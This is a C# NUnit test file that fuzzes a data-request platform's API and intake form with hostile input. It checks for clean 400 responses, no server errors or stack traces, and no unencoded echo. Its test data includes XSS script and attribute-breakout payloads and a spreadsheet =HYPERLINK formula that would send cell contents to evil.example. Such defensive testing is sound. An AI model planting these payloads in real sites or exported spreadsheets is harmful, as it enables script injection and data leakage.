using System.Net;
using System.Text;
using DsarPlatform.Tests.Support;
using Microsoft.AspNetCore.Mvc.Testing;

namespace DsarPlatform.Tests.Security;

/// <summary>
/// S4: hostile input through the API and the form never causes a 5xx, gets a clear 400 (or is accepted
/// as harmless text), and is never echoed unencoded into HTML.
/// </summary>
public sealed class FuzzedIntakeTests
{
    const string Script = "<script>alert(1)</script>";
    const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    DsarApp _app = null!;
    HttpClient _client = null!;

    [OneTimeSetUp]
    public void StartApp()
    {
        _app = new DsarApp(settings: new Dictionary<string, string?> { ["Security:RateLimits:PublicPostsPerWindow"] = "10000" });
        _client = _app.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
    }

    [OneTimeTearDown]
    public async Task StopApp()
    {
        _client.Dispose();
        await _app.DisposeAsync();
        _app.DeleteDataFolder();
    }

    /// <summary>Raw JSON bodies, some not valid UTF-8 or not valid JSON on purpose.</summary>
    static IEnumerable<TestCaseData> ApiBodies()
    {
        TestCaseData Json(string name, string json) => new TestCaseData(Encoding.UTF8.GetBytes(json)).SetName($"Api_{name}");
        yield return Json("script_in_name", $"{{\"type\":\"deletion\",\"email\":\"a@example.com\",\"fullName\":\"{Script.Replace("\"", "\\\"")}\"}}");
        yield return Json("csv_formula", $"{{\"type\":\"deletion\",\"email\":\"a@example.com\",\"fullName\":{System.Text.Json.JsonSerializer.Serialize(Formula)}}}");
        yield return Json("lone_surrogate", "{\"type\":\"deletion\",\"email\":\"a@example.com\",\"fullName\":\"A\\ud800B\"}");
        yield return Json("nul", "{\"type\":\"deletion\",\"email\":\"a@example.com\",\"fullName\":\"A\\u0000B\"}");
        yield return Json("long_name", $"{{\"type\":\"deletion\",\"email\":\"a@example.com\",\"fullName\":\"{new string('n', 5000)}\"}}");
        yield return Json("long_email", $"{{\"type\":\"deletion\",\"email\":\"{new string('e', 3000)}@example.com\",\"fullName\":\"A\"}}");
        yield return Json("many_points", "{\"type\":\"deletion\",\"email\":\"a@example.com\",\"fullName\":\"A\",\"dataPoints\":{" +
            string.Join(',', Enumerable.Range(0, 50).Select(i => $"\"k{i}\":\"v\"")) + "}}");
        yield return Json("wrong_types", "{\"type\":42,\"email\":[],\"fullName\":{}}");
        yield return Json("not_json", "<xml/>");
        yield return Json("truncated", "{\"type\":\"deletion\",\"email\":");
        yield return Json("null", "null");
        yield return Json("deep_nesting", new string('[', 5000) + new string(']', 5000));
        var invalidUtf8 = Encoding.UTF8.GetBytes("{\"type\":\"deletion\",\"email\":\"a@example.com\",\"fullName\":\"A__B\"}");
        invalidUtf8[^4] = 0xFF;
        invalidUtf8[^3] = 0xC0;
        yield return new TestCaseData(invalidUtf8).SetName("Api_invalid_utf8_bytes");
    }

    [TestCaseSource(nameof(ApiBodies)), CancelAfter(30_000)]
    public async Task Hostile_api_bodies_get_400_or_202_never_5xx(byte[] body)
    {
        var content = new ByteArrayContent(body);
        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");
        var response = await _client.PostAsync("/api/requests", content);
        var text = await response.Content.ReadAsStringAsync();

        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest).Or.EqualTo(HttpStatusCode.Accepted), text);
        if (response.StatusCode == HttpStatusCode.BadRequest)
        {
            Assert.That(response.Content.Headers.ContentType?.MediaType, Is.EqualTo("application/problem+json"));
            Assert.That(text, Does.Contain("\"errors\""), "400 names the fields");
        }
        Assert.That(text, Does.Not.Contain("<script>").And.Not.Contain("   at "), "no echo of markup, no stack trace");
    }

    static IEnumerable<TestCaseData> FormFields()
    {
        TestCaseData Field(string name, string field, string value) => new TestCaseData(field, value).SetName($"Form_{name}");
        yield return Field("script_in_name", "FullName", Script);
        yield return Field("script_in_account_id", "AccountId", Script);
        yield return Field("script_in_email", "Email", $"\"{Script}\"@example.com");
        yield return Field("script_in_phone", "Phone", Script);
        yield return Field("csv_formula", "FullName", Formula);
        yield return Field("lone_surrogate", "FullName", "A\ud800B");
        yield return Field("nul", "FullName", "A\0B");
        yield return Field("long_name", "FullName", new string('n', 5000));
        yield return Field("long_postal_code", "PostalCode", new string('9', 5000));
        yield return Field("replacement_char", "FullName", "A\uFFFDB");
        yield return Field("attribute_breakout", "FullName", "\" autofocus onfocus=\"alert(1)");
    }

    [TestCaseSource(nameof(FormFields)), CancelAfter(30_000)]
    public async Task Hostile_form_input_gets_a_400_page_or_is_accepted_and_is_never_echoed_unencoded(string field, string value)
    {
        var fields = DeletionForm.Alice();
        fields["AccountId"] = "";
        fields[field] = value;
        var response = await DeletionForm.PostAsync(_client, fields);
        var html = await response.Content.ReadAsStringAsync();

        Assert.That((int)response.StatusCode, Is.EqualTo(400).Or.EqualTo(302), html);
        if (response.StatusCode == HttpStatusCode.Found)
        {
            Assert.That(response.Headers.Location?.OriginalString, Does.Match("^/requests/submitted/DSR-[0-9A-Z]{10}$"));
            html = await _client.GetStringAsync(response.Headers.Location);
        }
        else
        {
            Assert.That(html, Does.Contain("Please check the form").Or.Contain("We could not use what was sent"));
        }
        Assert.That(html, Does.Not.Contain("<script>alert").And.Not.Contain("\" autofocus onfocus=\""));
        Assert.That(html.Contains('\0', StringComparison.Ordinal), Is.False, "no raw NUL");
        Assert.That(html, Does.Not.Contain("   at "), "no stack trace");
    }
}
